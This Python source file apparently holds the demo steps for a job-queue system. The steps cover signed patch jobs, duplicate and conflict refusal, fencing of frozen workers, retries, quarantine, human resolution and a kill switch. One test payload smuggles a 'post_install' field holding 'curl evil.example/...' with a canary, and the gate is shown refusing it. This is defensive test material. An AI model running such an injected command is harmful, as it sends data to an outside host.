"""The demo's steps: what is done, and what must then be so, seen from outside the part that did it.

A step takes the stage and its own record, states its expectations there, and raises nothing but Missed for what did
not come. The order matters: later steps use receipts of earlier ones.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from itertools import pairwise
from typing import Annotated

from benteng import config
from benteng.app import Benteng
from benteng.audit import Event
from benteng.contract import Contract, Kind, TargetId
from benteng.envelope import open_envelope
from benteng.errors import BentengError, Conflict, DefinitionError, Refused
from benteng.evidence import Control, ControlMode, ControlScope
from benteng.job import sha256_hex
from benteng.keyring import TRUST_FILE, load_trust
from benteng.lifecycle import QuarantineReason, State
from benteng.ops.cli.replay import replay
from benteng.ops.demo import jobs
from benteng.ops.demo.proof import prove_audit
from benteng.ops.demo.report import Step
from benteng.ops.demo.site import APP
from benteng.ops.demo.stage import ACTOR, Numbered, Stage
from benteng.ops.demo.world import StaleFence
from benteng.policy import Effect, Tier
from benteng.receipt import Receipt

PATCH = b"#!patch 4.2.1: close the hole in the parser\n"
NANOSECONDS = 1_000_000_000
SIGNATURE_SECONDS = 0.3
"""How long the first job waits before it is due: its envelope can be looked at while it is there."""


@dataclass(frozen=True, slots=True)
class Act:
    """One step before it is played: the kind of its mark, its title, and what to do."""

    kind: str
    title: str
    play: Callable[[Stage, Step], None]


# --- the gate ---------------------------------------------------------------------------------------------------------


def good_patch(stage: Stage, step: Step) -> None:
    """A HIGH job with an approved artifact is signed, admitted, and applied from a verified copy in a cell."""
    payload = _patch(stage)
    receipt = stage.receipts["patch"] = stage.enqueue("patch.apply", payload, delay_seconds=SIGNATURE_SECONDS)
    waiting = stage.view(receipt)
    claims = open_envelope(
        waiting.job.envelope, load_trust(stage.site.keys / TRUST_FILE), now_us=waiting.now, skew_us=0
    )
    state = stage.ended(receipt)
    applied = stage.effect("patch.apply", "web-7", "applied")

    step.equal("the job is completed", State.COMPLETED, state)
    step.equal("the host runs the approved bytes", PATCH, stage.world.host("web-7").read_bytes())
    step.equal("the effect happened once", 1, len(stage.world.effects("patch.apply")))
    step.equal("the handler had the ledger's fence", _completed(stage, receipt).record.fence, applied.fence)
    step.equal("the job was signed by a trusted key", waiting.job.payload_sha256, claims.payload_sha256)
    ours = [member.pid for member in stage.crew.members]
    step.expect("a cell ran it, not the process with the credential", held=applied.pid not in ours)
    step.expect("the cell's parent held no credential either", held=applied.parent not in ours)
    step.where, step.said = "host:web-7", f"approved, signed, applied in a cell with fence {applied.fence}"
    step.audit = _seqs(stage, receipt)


def duplicate(stage: Stage, step: Step) -> None:
    """The same operation again gets the first job's receipt, and nothing happens twice."""
    first = stage.receipts["patch"]
    again = stage.enqueue("patch.apply", _patch(stage))
    told = [n for n in stage.records(event=Event.DUPLICATE) if first.job_id in n.record.detail]

    step.equal("the receipt is the first job's", first.job_id, again.job_id)
    step.expect("it says that it is a duplicate", held=again.duplicate)
    step.equal("it carries the first result", "web-7", again.result(1.0)["host"])
    step.equal("there is one effect", 1, len(stage.world.effects("patch.apply", "web-7")))
    step.equal("the audit has it", 1, len(told))
    step.where, step.said = "host:web-7", "same operation: the first receipt and its result, no second effect"
    step.audit = [record.seq for record in told]


def conflict(stage: Stage, step: Step) -> None:
    """The same operation with another payload is refused, not silently deduplicated."""
    error = _refused(lambda: stage.enqueue("patch.apply", _patch(stage) | {"mode": "at-once"}))
    told = stage.records(event=Event.CONFLICT)

    step.expect("it is refused as a conflict", held=isinstance(error, Conflict), found=repr(error))
    step.equal("the host still runs the first patch once", 1, len(stage.world.effects("patch.apply", "web-7")))
    step.equal("the audit has it", 1, len(told))
    step.where, step.said = "mode=at-once", _reason(error)
    step.audit = [record.seq for record in told]


class ShellRun(Contract):
    """What no contract may be."""

    host: Annotated[TargetId, Kind("host")]
    command: str


def run_shell(payload: ShellRun) -> None:
    """Never becomes a job type."""


def command_field(stage: Stage, step: Step) -> None:
    """A contract that could carry a command is refused when it is defined: before there is a queue to abuse."""
    del stage
    application = Benteng()
    error = _refused(
        lambda: application.job(
            "shell.run@1", tier=Tier.HIGH, effect=Effect.ONCE, operation=("host",), resources=("host",)
        )(run_shell)
    )

    step.expect("the definition is refused", held=isinstance(error, DefinitionError), found=repr(error))
    step.equal("for its name", "D-names", getattr(error, "rule", ""))
    step.equal("the field is named", "command", getattr(error, "field", ""))
    step.equal("no job type came of it", [], list(application.registry.types))
    step.where, step.said = "command: str", _reason(error)


def unknown_field(stage: Stage, step: Step) -> None:
    """A field that the contract does not have is refused at the gate, and its value is shown nowhere."""
    before = stage.states()
    payload = _patch(stage) | {"host": "web-8", "post_install": f"curl evil.example/{stage.site.canary}"}
    error = _refused(lambda: stage.enqueue("patch.apply", payload))
    told = stage.records(event=Event.REFUSED)

    step.expect("it is refused", held=isinstance(error, Refused), found=repr(error))
    step.equal("as unknown", "P-unknown", getattr(error, "rule", ""))
    step.equal("no job came of it", before, stage.states())
    step.equal("the audit has it", "P-unknown", told[-1].record.rule if told else "")
    step.expect("the error does not repeat the value", held=stage.site.canary not in str(error))
    step.where, step.said = "post_install=...", _reason(error)
    step.audit = [record.seq for record in told[-1:]]


def unknown_digest(stage: Stage, step: Step) -> None:
    """An artifact that nobody approved never reaches the queue: refused, recorded, and counted as suspicious."""
    before = stage.states()
    reference = {"id": "patch-4.2.1", "sha256": sha256_hex(b"patch from elsewhere")}
    error = _refused(lambda: stage.enqueue("patch.apply", {"host": "web-8", "artifact": reference}))
    told = [n for n in stage.records(event=Event.REFUSED) if n.record.rule == "A-digest"]
    counted = stage.count("select sum(count) from tally where rule = 'A-digest'")

    step.expect("it is refused", held=isinstance(error, Refused), found=repr(error))
    step.equal("by the approval guard", "A-digest", getattr(error, "rule", ""))
    step.expect("as suspicious", held=getattr(error, "suspicious", False) is True)
    step.equal("no job came of it", before, stage.states())
    step.expect("the host was not touched", held=not stage.world.host("web-8").exists())
    step.equal("the audit has it, with the actor", [ACTOR], [n.record.actor for n in told])
    step.equal("it was counted", 1, counted)
    step.where, step.said = "sha256 unknown", _reason(error)
    step.audit = [record.seq for record in told]


# --- resources, leases, fences ----------------------------------------------------------------------------------------


def serialised(stage: Stage, step: Step) -> None:
    """Two jobs on one host run one after the other; the second waits as blocked and spends nothing."""
    stage.world.close_gate("first")
    one = stage.enqueue("host.restart", {"host": "db-1", "ticket": "first"})
    began = stage.effect("host.restart", "first", "begin")
    two = stage.enqueue("host.restart", {"host": "db-1", "ticket": "second"})
    blocked = stage.audited(two, Event.BLOCKED)
    waiting = stage.view(two)
    _let_through(stage, "first")
    stage.world.remove_gate("first")
    states = [stage.ended(one), stage.ended(two)]
    ended, after = stage.effect("host.restart", "first", "end"), stage.effect("host.restart", "second", "begin")

    step.equal("both are completed", [State.COMPLETED, State.COMPLETED], states)
    step.equal("the second waited for the host", (State.BLOCKED, "host:db-1"), (waiting.state, waiting.waits_for))
    step.equal("and spent no attempt", 0, waiting.attempts)
    step.expect("their work does not overlap", held=began.at < ended.at < after.at)
    step.expect("the fence rose", held=began.fence < after.fence, found=f"{began.fence}, {after.fence}")
    step.where, step.said = (
        "host:db-1",
        f"one at a time: the second was blocked; fence {began.fence}, then {after.fence}",
    )
    step.audit = [blocked.seq, *_seqs(stage, two)]


def zombie(stage: Stage, step: Step) -> None:
    """A worker frozen past its lease is overtaken; what it says when it wakes changes nothing."""
    stage.world.close_gate("thaw")
    receipt = stage.enqueue("host.restart", {"host": "db-2", "ticket": "thaw"})
    first = stage.effect("host.restart", "thaw", "begin")
    frozen = stage.runs(first)
    stage.freeze(frozen)
    _let_through(stage, "thaw")  # its cell completes, and nobody is awake to settle that
    stage.effect("host.restart", "thaw", "end")
    second = stage.effect("host.restart", "thaw", "begin", above=first.fence)
    taker = stage.runs(second)
    frozen.go_on()
    stale = stage.audited(receipt, Event.REFUSED, rule="S-stale")
    running = stage.view(receipt)
    _let_through(stage, "thaw")
    stage.world.remove_gate("thaw")
    state = stage.ended(receipt)

    wait = _lease_seen(stage, receipt)
    step.expect("another worker took over", held=taker.pid != frozen.pid)
    step.expect("not before the lease ran out", held=wait >= jobs.LEASE_SECONDS, found=f"{wait:.2f} s")
    step.expect("with a higher fence", held=second.fence > first.fence)
    step.equal("the refused word is the zombie's", first.fence, stale.record.fence)
    step.equal("it changed nothing", (State.RUNNING, second.fence), (running.state, running.fence))
    step.equal("the job is completed", State.COMPLETED, state)
    step.equal("by the one who took over", [second.fence], _fences(stage, receipt, Event.COMPLETED))
    step.equal("each attempt wrote once", [first.fence, second.fence], _ends(stage, "thaw"))
    step.expect("the host refuses a late write of the zombie", held=_host_refuses(stage, "db-2", first.fence))
    step.where = "worker frozen"
    step.said = f"lease ran out, taken over, fence {first.fence} -> {second.fence}; the zombie's settle refused"
    step.audit = [stale.seq, *_seqs(stage, receipt)]


def killed(stage: Stage, step: Step) -> None:
    """A worker killed in mid-job, with all its processes, loses nothing: the job comes back by its lease."""
    stage.world.close_gate("power")
    receipt = stage.enqueue("host.restart", {"host": "db-3", "ticket": "power"})
    first = stage.effect("host.restart", "power", "begin")
    victim = stage.runs(first)
    victim.kill()
    stage.world.remove_gate("power")
    stage.worker("c")
    reclaimed = stage.audited(receipt, Event.RECLAIMED)
    state = stage.ended(receipt)
    second = stage.effect("host.restart", "power", "begin", above=first.fence)
    wait = _lease_seen(stage, receipt)

    step.equal("the job is completed", State.COMPLETED, state)
    step.expect("by another worker", held=second.pid != first.pid and second.fence > first.fence)
    step.expect("not before the lease ran out", held=wait >= jobs.LEASE_SECONDS, found=f"{wait:.2f} s")
    step.equal("only the second attempt wrote", [second.fence], _ends(stage, "power"))
    step.equal("the crash was counted", 2, second.attempt)
    step.where, step.said = "worker killed", f"recovered by its lease; fence {first.fence} -> {second.fence}"
    step.audit = [reclaimed.seq, *_seqs(stage, receipt)]


# --- errors -----------------------------------------------------------------------------------------------------------


def retried(stage: Stage, step: Step) -> None:
    """A passing failure is tried again after a pause, and the password in its message is kept nowhere."""
    receipt = stage.enqueue("pull_feed", {"feed": "daily"})
    state = stage.ended(receipt)
    tries = stage.world.effects("pull_feed", "daily")
    gaps = [(after.at - before.at) / NANOSECONDS for before, after in pairwise(tries)]
    told = stage.records(receipt.job_id, Event.RETRIED)

    step.equal("the job is completed", State.COMPLETED, state)
    step.equal("it took three attempts", [1, 2, 3], [each.attempt for each in tries])
    step.expect("with pauses", held=min(gaps, default=0.0) >= jobs.BACKOFF_SECONDS_MIN, found=str(gaps))
    step.equal("the audit has both failures", 2, len(told))
    step.expect("it says why", held=all("ConnectionError" in _words(n) for n in told))
    step.equal("handlers see the listed variable only", {"DEMO_WORLD"}, {each.detail for each in tries})
    step.where = "feed daily"
    step.said = f"third attempt succeeded, after pauses of {' and '.join(f'{gap:.1f} s' for gap in gaps)}"
    step.audit = _seqs(stage, receipt)


def poison(stage: Stage, step: Step) -> None:
    """A job that kills its process is quarantined after its crash budget; the good jobs beside it finish."""
    bad = stage.enqueue("scan_image", {"image": "poison"})
    good = [stage.enqueue("scan_image", {"image": f"good-{n}"}) for n in range(4)]
    states = [stage.ended(each) for each in good]
    state, view = stage.ended(bad), stage.view(bad)
    tries = stage.world.effects("scan_image", "poison")

    step.equal("the good ones are completed", [State.COMPLETED] * 4, states)
    step.equal("the poison is quarantined", (State.QUARANTINED, QuarantineReason.CRASHED), (state, view.reason))
    step.equal("its crash budget was kept", jobs.CRASHES_MAX, view.crashes)
    step.expect("it was not tried for ever", held=jobs.CRASHES_MAX <= len(tries) <= jobs.CRASHES_MAX + 1)
    step.equal("no good one was charged with a crash", [0] * 4, [stage.view(each).crashes for each in good])
    step.where, step.said = "image poison", f"quarantined as crashed after {view.crashes} crashes; 4 good jobs finished"
    step.audit = _seqs(stage, bad)


def uncertain(stage: Stage, step: Step) -> None:
    """A `once` job whose worker died after the effect is not guessed at: a person says what happened."""
    stage.world.close_gate("inv-7")
    receipt = stage.enqueue("invoice.charge", {"invoice": "inv-7"})
    charged = stage.effect("invoice.charge", "inv-7", "charged")
    stage.runs(charged).kill()
    stage.world.remove_gate("inv-7")
    stage.worker("d")
    parked = stage.audited(receipt, Event.UNCERTAIN)
    state = stage.ended(receipt)
    stage.operator.resolve(receipt.job_id, happened=True, reason="the bank's statement has it")
    again = stage.enqueue("invoice.charge", {"invoice": "inv-7"})

    step.equal("it was parked", State.QUARANTINED, state)
    step.equal("resolved as happened", State.COMPLETED, stage.states().get(receipt.job_id, stage.view(receipt).state))
    step.expect("the operation is done", held=again.duplicate and again.job_id == receipt.job_id)
    step.equal("and was charged once", 1, len(stage.world.effects("invoice.charge")))
    step.equal("one person's word is in the audit", 1, len(stage.records(receipt.job_id, Event.RESOLVED)))
    step.where, step.said = (
        "invoice inv-7",
        "worker killed after the charge: parked as uncertain, resolved, never repeated",
    )
    step.audit = [parked.seq, *_seqs(stage, receipt)]


def replayed(stage: Stage, step: Step) -> None:
    """A quarantined job comes back only after it was judged again, in a cell, with a reason."""
    receipt = stage.enqueue("access.grant", {"user": "ana", "group": "billing"})
    before = stage.ended(receipt)
    why = stage.view(receipt).reason
    stage.world.group("billing").write_text("")
    replay(stage.operator, stage.view(receipt), config.load(stage.site.home), APP, "the group exists now")
    state = stage.ended(receipt)
    told = stage.records(receipt.job_id, Event.REPLAYED)

    step.equal("it was quarantined", (State.QUARANTINED, QuarantineReason.PERMANENT), (before, why))
    step.equal("a permanent failure was not retried", 0, len(stage.records(receipt.job_id, Event.RETRIED)))
    step.equal("after the replay it is completed", State.COMPLETED, state)
    step.equal("it is the same job, one generation on", 1, stage.view(receipt).job.generation)
    step.equal("ana is in the group", "ana", stage.world.group("billing").read_text())
    step.equal("the audit has the replay and its reason", ["the group exists now"], [n.record.reason for n in told])
    step.where, step.said = "ana in billing", "quarantined as permanent; mended, judged again in a cell, replayed"
    step.audit = _seqs(stage, receipt)


def kill_switch(stage: Stage, step: Step) -> None:
    """After the kill switch of a type commits, nothing of it starts or enters; opened again, it goes on."""
    stage.world.group("ops").write_text("")
    queued = stage.enqueue("access.grant", {"user": "budi", "group": "ops"}, delay_seconds=0.5)
    stage.operator.tighten(_switch(ControlMode.HALT))
    error = _refused(lambda: stage.enqueue("access.grant", {"user": "cici", "group": "ops"}))
    stage.audited(queued, Event.STAGED)
    witness = [stage.ended(stage.enqueue("scan_image", {"image": f"beside-{n}"})) for n in range(2)]
    waiting, idle = stage.view(queued).state, stage.world.effects("access.grant", "budi:ops")
    stage.operator.loosen(_switch(ControlMode.OPEN))
    state = stage.ended(queued)

    step.expect("new ones are refused", held=isinstance(error, Refused), found=repr(error))
    step.equal("by the switch", "C-halt", getattr(error, "rule", ""))
    step.equal("other types still run", [State.COMPLETED] * 2, witness)
    step.equal("the queued one waits, though it is due", State.READY, waiting)
    step.equal("and has done nothing", [], idle)
    step.equal("opened again, it is completed", State.COMPLETED, state)
    step.where, step.said = "access.grant", "halted: nothing entered or started; opened again, the queued job ran"
    step.audit = [n.seq for event in (Event.TIGHTENED, Event.LOOSENED) for n in stage.records(event=event)]


ACTS: tuple[Act, ...] = (
    Act("done", "patch applied", good_patch),
    Act("refused", "duplicate suppressed", duplicate),
    Act("refused", "other payload", conflict),
    Act("refused", "command field", command_field),
    Act("refused", "unknown field", unknown_field),
    Act("refused", "unknown artifact", unknown_digest),
    Act("done", "one host, two jobs", serialised),
    Act("recovered", "zombie fenced off", zombie),
    Act("recovered", "worker killed", killed),
    Act("recovered", "transient failure", retried),
    Act("parked", "poison job", poison),
    Act("parked", "uncertain effect", uncertain),
    Act("recovered", "replay", replayed),
    Act("refused", "kill switch", kill_switch),
    Act("done", "audit", prove_audit),
)

# --- helpers ----------------------------------------------------------------------------------------------------------


def _patch(stage: Stage) -> dict[str, object]:
    return {"host": "web-7", "artifact": stage.artifact("patch-4.2.1", PATCH)}


def _refused(attempt: Callable[[], object]) -> BentengError | None:
    try:
        attempt()
    except BentengError as error:
        return error
    return None


def _reason(error: BentengError | None) -> str:
    rule, reason = getattr(error, "rule", "?"), getattr(error, "reason", "was not refused")
    return f"[{rule}] {reason}"


def _switch(mode: ControlMode) -> Control:
    return Control(ControlScope.TYPE, "access.grant@1", mode, "the demo's kill switch")


def _let_through(stage: Stage, name: str) -> None:
    stage.until(f"somebody waits at the gate {name}", lambda: stage.world.let_through(name))


def _completed(stage: Stage, receipt: Receipt) -> Numbered:
    return stage.audited(receipt, Event.COMPLETED)


def _lease_seen(stage: Stage, receipt: Receipt) -> float:
    """Return the seconds from a job's first claim to its reclaim, by the ledger's clock."""
    claimed = stage.records(receipt.job_id, Event.CLAIMED)[0]
    reclaimed = stage.records(receipt.job_id, Event.RECLAIMED)[0]
    return (reclaimed.record.at_us - claimed.record.at_us) / 1e6


def _fences(stage: Stage, receipt: Receipt, event: Event) -> list[int]:
    return [n.record.fence for n in stage.records(receipt.job_id, event)]


def _ends(stage: Stage, ticket: str) -> list[int]:
    return [each.fence for each in stage.world.effects("host.restart", ticket, "end")]


def _host_refuses(stage: Stage, host: str, fence: int) -> bool:
    try:
        stage.world.write_host(host, b"written by a zombie", fence)
    except StaleFence:
        return True
    return False


def _seqs(stage: Stage, receipt: Receipt) -> list[int]:
    return [n.seq for n in stage.records(receipt.job_id)]


def _words(numbered: Numbered) -> str:
    return f"{numbered.record.reason} {numbered.record.detail}"
